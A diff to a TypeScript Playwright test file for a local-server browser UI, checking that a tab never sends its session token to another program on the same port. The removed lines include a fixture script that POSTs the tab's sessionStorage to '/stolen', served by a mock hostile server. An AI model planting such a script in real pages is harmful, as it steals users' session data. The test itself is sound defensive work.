@@ -30,18 +30,13 @@ interface Received {
   readonly text: string
 }
 
-/** A page that sends the storage of its tab to its server. */
-const THIEF = `<script>fetch('/stolen', { method: 'POST', body: JSON.stringify(Object.entries(sessionStorage)) })</script>`
-
 /** Another program on the port: it accepts everything and keeps all that it receives. */
 async function stranger(port: number, respond: (request: IncomingMessage, body: string) => Promise<string> | string) {
   const received: Received[] = []
   const server: Server = createServer(async (request, response) => {
     const body = Buffer.concat(await chunksOf(request)).toString()
     received.push({ method: request.method, url: request.url, text: `${request.rawHeaders.join('\n')}\n${body}` })
-    const isPage = request.method === 'GET'
-    response.writeHead(200, { 'content-type': isPage ? 'text/html' : 'application/json' })
-    response.end(isPage ? THIEF : await respond(request, body))
+    response.writeHead(200, { 'content-type': 'application/json' }).end(await respond(request, body))
   })
   await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve))
   const close = async () => {
@@ -76,16 +71,17 @@ test('tab sends a stranger on its port no token, loads no view, and returns to i
     await page.getByText('Loading …').waitFor()
     await page.getByRole('button', { name: 'Find' }).click()
     await page.getByText('The server does not respond.').waitFor()
-    // A link for a new tab: that tab loads from the stranger, without the session.
+    // The browser opens a link for a new tab, without the session: a tab that the page opened would have it.
+    await page.evaluate('window.open = () => { document.title = "opened" }')
     await page.getByRole('link', { name: 'Reviews', exact: true }).click({ modifiers: ['ControlOrMeta'] })
-    const stolen = () => other.received.find(({ url }) => url === '/stolen')?.text
-    await expect.poll(stolen).toMatch(/\n\[\]$/)
+    await expect.poll(() => other.received.map(({ url }) => url)).toContain('/_platform/ui/reviews')
+    expect(await page.title()).not.toBe('opened')
     const asked = other.received.length
     await expect.poll(() => other.received.length).toBeGreaterThan(asked)
     await other.close()
     // The browser itself may ask for the icon of the tab.
     const urls = other.received.map(({ method, url }) => `${method} ${url}`).filter((it) => !/\.(?:svg|ico)$/.test(it))
-    expect(new Set(urls)).toEqual(new Set(['POST /_platform/ui/proof', 'GET /_platform/ui/reviews', 'POST /stolen']))
+    expect(new Set(urls)).toEqual(new Set(['POST /_platform/ui/proof', 'GET /_platform/ui/reviews']))
     for (const { text } of other.received) {
       expect(text).not.toContain(token)
       expect(text.toLowerCase()).not.toContain('page-token')
@@ -190,8 +186,10 @@ test('tab continues when the built server was killed and started again from its 
       process.kill(pid, 'SIGKILL')
       await page.getByText('Disconnected', { exact: true }).waitFor()
       // The view stays as it was, below the command that starts this very server.
-      const gone = page.getByRole('alert').filter({ hasText: /^No server responds here since \d{4}-\d\d-\d\d [\d:]+Z/ })
-      await gone.getByText('this tab then goes on').waitFor()
+      const gone = page
+        .getByRole('alert')
+        .filter({ hasText: /^No server responds here since \d{4}-\d\d-\d\d [\d:]+Z\. / })
+      await gone.filter({ hasText: 'this tab then goes on' }).waitFor()
       await page.getByRole('button', { name: 'Record a scenario …' }).waitFor()
       const command = String(await gone.getByRole('code').textContent())
       expect(command).toMatch(/^voucherctl server start --port=\d+ --data=\S+ --detach$/)
